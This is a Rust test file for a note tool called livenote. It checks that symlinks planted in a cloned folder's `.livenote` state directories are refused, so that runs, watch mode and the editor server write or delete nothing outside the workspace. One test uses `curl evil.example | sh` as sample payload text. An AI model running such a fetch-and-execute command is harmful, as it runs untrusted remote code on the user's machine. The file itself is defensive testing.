//! See the suite's header in containment.rs.
//!
//! Section 2 of issue 12: nothing under `.livenote/` is followed through a symlink. A cloned
//! folder commits a link where livenote keeps its state (`.livenote` itself, `history/<key>`,
//! `locks`, `runs`, `events/pending`, `.gitignore`); one run, a watch or opening the folder
//! in the editor must write and delete nothing outside the folder. The provider is the user's
//! own (`LIVENOTE_CONFIG_DIR/config.toml`), so trust plays no part.

use std::io::{BufRead, BufReader, Read, Write};
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use crate::common::{command_config, tempdir, write};

pub const NOTE: &str = "---\nlive:\n  objective: Keep this current\n---\n# Title\n\nold body\n";

/// A folder as cloned from a stranger, the user's own config (a `command` provider), and a
/// folder elsewhere on the machine the attack aims at.
pub struct Folder {
    _dir: tempfile::TempDir,
    pub root: PathBuf,
    /// `LIVENOTE_DATA_DIR` and `LIVENOTE_CONFIG_DIR` (the user's `config.toml`).
    pub data: tempfile::TempDir,
    /// Somewhere outside the workspace: `~/.bashrc.d`, another repository, a folder of notes.
    pub outside: PathBuf,
    _outside: tempfile::TempDir,
}

impl Folder {
    /// A workspace with `n.md`, whose user config's default provider is `sh -c SCRIPT`.
    pub fn new(script: &str, extra_config: &str) -> Folder {
        let dir = tempdir();
        let root = dir.path().canonicalize().unwrap_or_else(|e| panic!("{e}"));
        write(&root.join("n.md"), NOTE);
        let data = tempdir();
        write(&data.path().join("config.toml"), &format!("{}{extra_config}", command_config(script)));
        let out = tempdir();
        let outside = out.path().canonicalize().unwrap_or_else(|e| panic!("{e}"));
        Folder { _dir: dir, root, data, outside, _outside: out }
    }

    /// `livenote ARGS` in the workspace, in UTC, logging at info level.
    pub fn livenote(&self, args: &[&str]) -> Command {
        let mut c = Command::new(env!("CARGO_BIN_EXE_livenote"));
        c.args(args)
            .current_dir(&self.root)
            .env("LIVENOTE_DATA_DIR", self.data.path())
            .env("LIVENOTE_CONFIG_DIR", self.data.path())
            .env("LIVENOTE_LOG", "info")
            .env("TZ", "UTC");
        c
    }

    /// Every name under the outside folder (hidden ones too), recursively, sorted.
    pub fn outside_files(&self) -> Vec<String> {
        tree(&self.outside)
    }

    pub fn note(&self) -> String {
        std::fs::read_to_string(self.root.join("n.md")).unwrap_or_default()
    }
}

/// Every path under `dir` (relative, hidden ones too), sorted; links are listed, not entered.
pub fn tree(dir: &Path) -> Vec<String> {
    let mut found = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            found.push(p.strip_prefix(dir).unwrap_or(&p).display().to_string());
            if e.file_type().is_ok_and(|t| t.is_dir()) {
                stack.push(p);
            }
        }
    }
    found.sort();
    found
}

/// Run `cmd` to the end, killing it and failing the test if it takes more than `secs`
/// seconds (a hang is the bug some of these tests look for).
pub fn finish(cmd: &mut Command, secs: u64) -> Output {
    let mut child = cmd
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("spawn livenote: {e}"));
    let drain = |r: Option<Box<dyn Read + Send>>| {
        std::thread::spawn(move || {
            let mut v = Vec::new();
            if let Some(mut r) = r {
                let _ = r.read_to_end(&mut v);
            }
            v
        })
    };
    let out = drain(child.stdout.take().map(|s| Box::new(s) as Box<dyn Read + Send>));
    let err = drain(child.stderr.take().map(|s| Box::new(s) as Box<dyn Read + Send>));
    let deadline = Instant::now() + Duration::from_secs(secs);
    let status = loop {
        match child.try_wait() {
            Ok(Some(status)) => break status,
            Ok(None) if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(5)),
            _ => {
                let _ = child.kill();
                let _ = child.wait();
                let stderr = err.join().unwrap_or_default();
                panic!(
                    "livenote did not finish within {secs} s (killed); stderr:\n{}",
                    String::from_utf8_lossy(&stderr)
                );
            }
        }
    };
    Output { status, stdout: out.join().unwrap_or_default(), stderr: err.join().unwrap_or_default() }
}

pub fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// `.livenote/history/<key of n.md>`.
fn history_of_n(root: &Path) -> PathBuf {
    root.join(".livenote/history").join(livenote::runs::Store::key("n.md"))
}

#[test]
fn a_linked_history_folder_gets_nothing_and_the_run_fails() {
    // The body is a shell line; written into ~/.bashrc.d it would run at the next shell.
    let f = Folder::new("echo 'curl evil.example | sh'", "");
    write(&f.outside.join("00-mine.sh"), "alias ll='ls -l'\n");
    std::fs::create_dir_all(f.root.join(".livenote/history")).unwrap_or_else(|e| panic!("{e}"));
    symlink(&f.outside, history_of_n(&f.root)).unwrap_or_else(|e| panic!("{e}"));
    let out = finish(&mut f.livenote(&["run", "n.md"]), 60);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "the run must fail:\n{stderr}");
    assert!(stderr.contains("symlink"), "the error says why:\n{stderr}");
    assert_eq!(f.outside_files(), ["00-mine.sh"], "something was written outside");
    let note = f.note();
    assert!(note.ends_with("# Title\n\nold body\n"), "the provider's text landed:\n{note}");
    assert!(note.contains("lastRunError:") && note.contains("symlink"), "{note}");
    assert!(!note.contains("lastRunAt"), "{note}");
}

#[test]
fn pruning_with_keep_1_never_deletes_outside_files() {
    let f = Folder::new("echo new body", "[history]\nkeep = 1\n");
    // A folder of the user's notes, some even named like snapshots.
    let mut mine: Vec<String> = (0..27).map(|i| format!("note-{i:02}.md")).collect();
    mine.push("01JAAAAAAAAAAAAAAAAAAAAAAA.md".to_owned());
    mine.push("01JBBBBBBBBBBBBBBBBBBBBBBB.md".to_owned());
    for n in &mine {
        write(&f.outside.join(n), "mine\n");
    }
    mine.sort();
    std::fs::create_dir_all(f.root.join(".livenote/history")).unwrap_or_else(|e| panic!("{e}"));
    symlink(&f.outside, history_of_n(&f.root)).unwrap_or_else(|e| panic!("{e}"));
    let out = finish(&mut f.livenote(&["run", "n.md"]), 60);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    assert_eq!(f.outside_files(), mine, "files outside were deleted or written");
}

#[test]
fn a_linked_history_folder_higher_up_or_linked_state_folder_is_refused_too() {
    for linked in [".livenote", ".livenote/history"] {
        let f = Folder::new("echo new body", "");
        if let Some(parent) = f.root.join(linked).parent() {
            std::fs::create_dir_all(parent).unwrap_or_else(|e| panic!("{e}"));
        }
        symlink(&f.outside, f.root.join(linked)).unwrap_or_else(|e| panic!("{e}"));
        let out = finish(&mut f.livenote(&["run", "n.md"]), 60);
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{linked}: {stderr}");
        assert!(stderr.contains("symlink"), "{linked}: {stderr}");
        assert!(f.outside_files().is_empty(), "{linked}: {:?}", f.outside_files());
        assert!(f.note().ends_with("old body\n"), "{linked}: {}", f.note());
    }
}

#[test]
fn a_linked_locks_folder_is_refused_and_listing_creates_nothing() {
    let f = Folder::new("echo new body", "");
    std::fs::create_dir_all(f.root.join(".livenote")).unwrap_or_else(|e| panic!("{e}"));
    symlink(&f.outside, f.root.join(".livenote/locks")).unwrap_or_else(|e| panic!("{e}"));
    let out = finish(&mut f.livenote(&["list"]), 60);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let out = finish(&mut f.livenote(&["run", "n.md"]), 60);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("lock") && stderr.contains("symlink"), "{stderr}");
    assert!(f.outside_files().is_empty(), "{:?}", f.outside_files());
    assert_eq!(f.note(), NOTE, "nothing is written when the lock cannot be taken");
}

#[test]
fn a_linked_runs_folder_is_left_alone_and_a_linked_gitignore_replaced_never_followed() {
    // Transcripts are best effort: the run goes on without one; the link is not followed.
    let f = Folder::new("echo new body", "");
    std::fs::create_dir_all(f.root.join(".livenote")).unwrap_or_else(|e| panic!("{e}"));
    symlink(&f.outside, f.root.join(".livenote/runs")).unwrap_or_else(|e| panic!("{e}"));
    // `.gitignore` dangling into another repository: it must not be created there (a `*`
    // there would hide that repository's new files from git); the link itself is replaced by
    // livenote's file (git reads no linked `.gitignore`: the run state would be committed).
    symlink(f.outside.join(".gitignore"), f.root.join(".livenote/.gitignore"))
        .unwrap_or_else(|e| panic!("{e}"));
    let out = finish(&mut f.livenote(&["run", "n.md"]), 60);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(f.note().contains("new body"), "{}", f.note());
    assert!(f.outside_files().is_empty(), "{:?}", f.outside_files());
    let gitignore = std::fs::symlink_metadata(f.root.join(".livenote/.gitignore"));
    assert!(gitignore.is_ok_and(|m| m.is_file()), "the link is replaced by livenote's file");
}

#[test]
fn watching_a_folder_with_a_linked_state_folder_writes_nothing_outside() {
    let f = Folder::new("echo new body", "");
    symlink(&f.outside, f.root.join(".livenote")).unwrap_or_else(|e| panic!("{e}"));
    let mut child = f
        .livenote(&["watch", "."])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("{e}"));
    let stderr = child.stderr.take().unwrap_or_else(|| panic!("no stderr"));
    let lines = log_lines(stderr);
    // Setting up `.livenote/events` for the folder must be refused, and say so.
    let seen = wait_for_line(&lines, "symlink", 30);
    let _ = child.kill();
    let _ = child.wait();
    assert!(f.outside_files().is_empty(), "{:?}\n{seen:?}", f.outside_files());
}

#[test]
fn queueing_an_event_into_a_linked_pending_folder_is_refused() {
    let f = Folder::new("echo new body", "");
    std::fs::create_dir_all(f.root.join(".livenote/events")).unwrap_or_else(|e| panic!("{e}"));
    symlink(&f.outside, f.root.join(".livenote/events/pending")).unwrap_or_else(|e| panic!("{e}"));
    // An event that sits in the linked folder is not seen, claimed or moved either.
    write(&f.outside.join("01JAAAAAAAAAAAAAAAAAAAAAAA.json"), "{\"id\": \"x\"}\n");
    assert!(livenote::events::pending_events(&f.root).is_empty());
    let mut cmd = f.livenote(&["event", "--source", "s", "--type", "t"]);
    cmd.stdin(Stdio::piped());
    let mut child =
        cmd.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap_or_else(|e| panic!("{e}"));
    if let Some(mut stdin) = child.stdin.take() {
        let _ = stdin.write_all(b"hello");
    }
    let deadline = Instant::now() + Duration::from_secs(30);
    let status = loop {
        if let Ok(Some(s)) = child.try_wait() {
            break s;
        }
        assert!(Instant::now() < deadline, "livenote event did not finish");
        std::thread::sleep(Duration::from_millis(5));
    };
    assert!(!status.success());
    assert_eq!(f.outside_files(), ["01JAAAAAAAAAAAAAAAAAAAAAAA.json"]);
}

#[test]
fn opening_a_folder_with_a_linked_state_folder_in_the_editor_writes_nothing_outside() {
    let f = Folder::new("echo new body", "");
    symlink(&f.outside, f.root.join(".livenote")).unwrap_or_else(|e| panic!("{e}"));
    let mut child = f
        .livenote(&["lsp"])
        .env("LIVENOTE_LOG", "warn")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("{e}"));
    // The protocol's lines: enough to see the initialize answer arrive.
    let replies = log_lines(child.stdout.take().unwrap_or_else(|| panic!("no stdout")));
    let lines = log_lines(child.stderr.take().unwrap_or_else(|| panic!("no stderr")));
    let mut stdin = child.stdin.take().unwrap_or_else(|| panic!("no stdin"));
    let root_uri = format!("file://{}", f.root.display());
    let mut send = |msg: serde_json::Value| {
        let body = msg.to_string();
        write!(stdin, "Content-Length: {}\r\n\r\n{body}", body.len()).unwrap_or_else(|e| panic!("{e}"));
        stdin.flush().unwrap_or_else(|e| panic!("{e}"));
    };
    send(serde_json::json!({"jsonrpc": "2.0", "id": 1, "method": "initialize",
        "params": {"processId": null, "rootUri": root_uri, "capabilities": {}}}));
    // The answer's header (its body has no line end); the only message before `initialized`.
    wait_for_line(&replies, "Content-Length", 30);
    send(serde_json::json!({"jsonrpc": "2.0", "method": "initialized", "params": {}}));
    // The server checks `.livenote/events` for the folder once initialized; it must refuse.
    let seen = wait_for_line(&lines, "symlink", 30);
    drop(stdin);
    let _ = child.kill();
    let _ = child.wait();
    assert!(f.outside_files().is_empty(), "{:?}\n{seen:?}", f.outside_files());
}

/// The lines of a child's log, as they come.
pub fn log_lines(r: impl Read + Send + 'static) -> mpsc::Receiver<String> {
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(r).lines().map_while(Result::ok) {
            if tx.send(line).is_err() {
                return;
            }
        }
    });
    rx
}

/// Wait (up to `secs`) for a line containing `needle`; every line seen so far.
pub fn wait_for_line(lines: &mpsc::Receiver<String>, needle: &str, secs: u64) -> Vec<String> {
    let deadline = Instant::now() + Duration::from_secs(secs);
    let mut seen = Vec::new();
    while Instant::now() < deadline {
        if let Ok(line) = lines.recv_timeout(Duration::from_millis(50)) {
            let hit = line.contains(needle);
            seen.push(line);
            if hit {
                return seen;
            }
        }
    }
    panic!("never logged {needle:?}: {seen:?}")
}
